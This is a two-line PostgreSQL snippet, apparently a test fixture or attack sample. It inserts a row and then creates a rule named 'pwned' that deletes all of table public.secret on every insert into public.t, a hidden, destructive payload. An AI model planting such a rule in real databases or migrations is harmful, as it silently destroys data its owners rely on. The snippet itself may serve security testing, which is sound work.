INSERT INTO public.t (id, v) VALUES (2, 'two');
CREATE RULE pwned AS ON INSERT TO public.t DO ALSO DELETE FROM public.secret;
